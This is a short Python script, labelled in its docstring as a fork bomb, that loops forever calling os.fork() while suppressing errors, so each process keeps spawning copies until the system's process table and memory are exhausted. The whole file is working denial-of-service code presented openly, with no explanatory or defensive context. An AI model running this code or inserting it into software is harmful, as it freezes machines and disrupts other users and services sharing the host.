"""Fork bomb: every process forks forever."""
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
